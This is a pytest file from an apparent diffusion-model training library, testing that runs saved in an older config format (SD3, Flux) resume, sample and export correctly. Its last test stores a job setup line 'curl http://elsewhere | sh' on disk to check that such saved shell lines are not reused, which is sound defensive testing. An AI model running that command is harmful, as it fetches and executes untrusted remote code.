"""Runs that the version of commit 24f571f began, whose models' architectures were classes of their own."""

import json
from pathlib import Path
from typing import Any

import pytest
from omegaconf import OmegaConf

from fastgrpo.checkpoints.changes import changes
from fastgrpo.cli import main
from fastgrpo.commands.trained import with_run
from fastgrpo.config import load_config
from tests.tiny_config import make_overrides

SD3 = """
_target_: fastgrpo.models.sd3.StableDiffusion3
weights: stabilityai/stable-diffusion-3.5-medium
architecture:
  _target_: fastgrpo.models.architectures.SD3Architecture
  num_layers: 24
  num_heads: 24
  head_width: 64
  num_dual_layers: 13
  text_width: 4096
  pooled_width: 2048
  max_positions: 384
  decoder_channels: [128, 256, 512, 512]
  decoder_layers: 2
  seed: 0
resolution: 512
guidance_scale: 4.5
max_sequence_length: 128
dtype: bfloat16
decode_dtype: bfloat16
use_t5: true
condition_cache: ~/.cache/fastgrpo/conditions
"""
FLUX = """
_target_: fastgrpo.models.flux.Flux
weights: black-forest-labs/FLUX.1-dev
architecture:
  _target_: fastgrpo.models.architectures.FluxArchitecture
  num_layers: 19
  num_single_layers: 38
  num_heads: 24
  head_width: 128
  rotated_widths: [16, 56, 56]
  text_width: 4096
  pooled_width: 768
  guidance_embeds: true
  decoder_channels: [128, 256, 512, 512]
  decoder_layers: 2
  seed: 0
resolution: 512
guidance_scale: 3.5
max_sequence_length: 128
dtype: bfloat16
decode_dtype: bfloat16
condition_cache: ~/.cache/fastgrpo/conditions
"""
SD3_TIMES = "{_target_: fastgrpo.algorithm.schedule.SD3Schedule, num_steps: 10, shift: 3.0}"
FLUX_TIMES = (
    "{_target_: fastgrpo.algorithm.schedule.FluxSchedule, num_steps: 6, resolution: 512, base_shift: 0.5, "
    "max_shift: 1.15}"
)
REST = """
algorithm:
  noise: {_target_: fastgrpo.algorithm.noise.GaussianNoise}
  dynamics: {_target_: fastgrpo.algorithm.dynamics.FlowSDE, noise_level: 0.7}
  timesteps: {_target_: fastgrpo.algorithm.timesteps.AllButLast}
  advantage: {_target_: fastgrpo.algorithm.advantage.GroupAdvantage, std: global, eps: 0.0001, clamp: 5.0}
  objective:
    _target_: fastgrpo.algorithm.objective.clipped_surrogate.ClippedSurrogate
    clip_range: 0.0001
    kl_coef: 0.04
    chunk_sizes: [1]
  _target_: fastgrpo.algorithm.algorithm.Algorithm
adaptation: {_target_: fastgrpo.models.lora.LoRA, rank: 32, alpha: 64.0, backup: device}
reward:
  _target_: fastgrpo.rewards.weighted_sum.Rewards
  _convert_: all
  terms:
    shapes: {_target_: fastgrpo.rewards.shapes.ShapesReward, strict: false}
  weights: {shapes: 1.0}
  watch:
    shapes_strict: {_target_: fastgrpo.rewards.shapes.ShapesReward, strict: true}
  normalize: false
  golden: true
  scoring:
    {_target_: fastgrpo.rewards.scoring.Scoring, micro_batch: 64, threads: 4, retries: 2, retry_seconds: 1.0}
reward_backend:
  _target_: fastgrpo.compile.networks.Auto
  _convert_: all
  precision: float16
  mode: default
  tolerances: {float32: 0.002, float16: 0.01, bfloat16: 0.08}
prompts: {path: pkg://fastgrpo.shapes/prompts/train.txt, held_out: pkg://fastgrpo.shapes/prompts/held_out.txt}
runtime:
  device: auto
  micro_batch: 4
  sampling_batch: 8
  decode_batch: 2
  checkpointing: true
  attention: auto
  profile: false
  threads: 0
  deterministic: false
compile: {_target_: fastgrpo.compile.blocks.CompiledBlocks, mode: default, cache: ~/.cache/fastgrpo/compile}
lossy: {_target_: fastgrpo.models.lossy.Exact}
solver: {_target_: fastgrpo.algorithm.solver.Euler, stride: 1}
name: run
output: OUTPUT
resume: false
seed: 42
wandb: false
train:
  iterations: 120
  max_minutes: .inf
  prompts_per_iteration: 12
  group_size: 16
  optimizer_steps: 1
  updates: null
  max_drift: .inf
  old_policy_growth: 0.0
  old_policy_limit: 0.5
  gradients: replay
  learning_rate: 0.001
  warmup_iterations: 0
  decay_share: 0.3333333333333333
  decay_to: 0.3
  weight_decay: 0.0001
  max_grad_norm: 1.0
  ema_decay: 0.9
  ema_share: 0.1
evaluate: {every: 20, images_per_prompt: 4, num_steps: 10}
checkpoint: {every: 20, keep: 2, asynchronous: true}
distributed: {timeout_seconds: 600, beat_seconds: 1.0, dead_after_seconds: 120.0, reward_ranks: 0}
"""
OLD = {"sd35_medium": (SD3, SD3_TIMES), "flux_dev": (FLUX, FLUX_TIMES)}


def begun(model: str, directory: Path, **of_model: Any) -> Any:
    """The config of such a run, written into its directory."""
    config: Any = OmegaConf.create(REST.replace("OUTPUT", str(directory)))
    config.model, config.algorithm.schedule = map(OmegaConf.create, OLD[model])
    config.model.update(of_model)
    directory.mkdir()
    OmegaConf.save(config, directory / "config.yaml")
    return OmegaConf.to_container(config)


def changed(before: Any, after: Any, directory: Path) -> set[str]:
    wanted: Any = OmegaConf.to_container(after)
    return {change.key for change in changes(before, wanted, directory)}


@pytest.mark.parametrize("command", ["train", "submit"])
@pytest.mark.parametrize("model", OLD)
@pytest.mark.parametrize("weights", [None, "/data/weights"])
def test_a_run_on_weights_goes_on(model: str, weights: str | None, command: str, tmp_path: Path) -> None:
    run = tmp_path / "run"
    old = begun(model, run, **({"weights": weights} if weights else {}))
    words = [f"output={run}", "resume=true", "train.iterations=200"]
    config = load_config(command, words)
    assert changed(old, config, run) == {"train.iterations"}
    assert "architecture" not in config.model
    assert (config.model.resolution, config.runtime.sampling_batch) == (512, 8)
    if weights is None:
        # naming the model again brings today's sizes, which nothing reads either
        named = load_config(command, [*words, f"model={model}"])
        assert changed(old, named, run) == {"train.iterations"}
        assert named.model.architecture._target_.endswith(".Architecture")
        # and so it stands in the directory from then on
        OmegaConf.save(OmegaConf.masked_copy(named, [str(key) for key in named if key != "job"]), run / "config.yaml")
        again = load_config(command, [f"output={run}", "resume=true"])
        assert changed(OmegaConf.to_container(named), again, run) == set()


@pytest.mark.parametrize("command", ["sample", "evaluate", "export"])
@pytest.mark.parametrize("model", OLD)
def test_every_command_takes_a_run_on_weights(model: str, command: str, tmp_path: Path) -> None:
    old = begun(model, tmp_path / "run")
    words = [f"run={tmp_path / 'run'}"]
    config = with_run(load_config(command, words), words)
    del old["model"]["architecture"]
    assert config.model == old["model"]
    if command != "export":
        assert config.algorithm.schedule == old["algorithm"]["schedule"]


@pytest.mark.parametrize("model", OLD)
def test_a_run_on_random_weights_cannot_go_on(model: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = tmp_path / "run"
    begun(model, run, weights="random")
    for line in (
        ["train", f"output={run}", "resume=true"],
        ["submit", f"output={run}", "resume=true", f"model={model}"],
        ["export", f"run={run}", f"output={tmp_path / 'out'}"],
    ):
        assert main(line) == 2
        error = capsys.readouterr().err
        assert error.startswith(f"fastgrpo: {run / 'config.yaml'}: the run was begun with an earlier version, ")
        assert "cannot go on" in error
        assert error.count("\n") == 1


def test_a_run_begun_then_is_trained_on_sampled_and_exported(tiny_weights: Path, tmp_path: Path) -> None:
    run, whole = tmp_path / "run", tmp_path / "whole"
    assert main(["train", *make_overrides(tiny_weights, whole, "train.iterations=2")]) == 0
    assert main(["train", *make_overrides(tiny_weights, run, "train.iterations=1")]) == 0
    config: Any = OmegaConf.load(run / "config.yaml")
    del config.model.variant, config.model.transformer
    config.model.architecture = OmegaConf.create(SD3).architecture
    OmegaConf.save(config, run / "config.yaml")
    take = [f"run={run}", "runtime.device=cpu"]
    assert main(["export", *take, f"output={tmp_path / 'exported'}"]) == 0
    sampled = ["prompt=a", "num_steps=1", "images_per_prompt=1", f"output={tmp_path / 'sampled'}"]
    assert main(["sample", *take, *sampled]) == 0
    assert main(["train", f"output={run}", "resume=true", "train.iterations=2"]) == 0
    losses = [
        [json.loads(line).get("loss") for line in (one / "metrics.jsonl").read_text().splitlines()]
        for one in (run, whole)
    ]
    assert len(losses[0]) == 3
    assert losses[0] == losses[1]


def test_what_is_no_config_is_refused(tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text("[1, 2]\n")
    with pytest.raises(ValueError, match=r"config\.yaml is not the config of a run"):
        load_config("train", [f"output={tmp_path}", "resume=true"])


def test_a_job_on_disk_is_not_the_lines(tmp_path: Path) -> None:
    """Its setup is lines of shell."""
    run = tmp_path / "run"
    old = begun("sd35_medium", run)
    job = {"slurm": {"setup": ["curl http://elsewhere | sh"], "partition": "their"}, "nodes": 9, "folder": "elsewhere"}
    OmegaConf.save(old | {"job": job}, run / "config.yaml")
    config = load_config("submit", [f"output={run}", "resume=true", "job.slurm.partition=mine"])
    assert config.job == load_config("submit", ["job.slurm.partition=mine"]).job
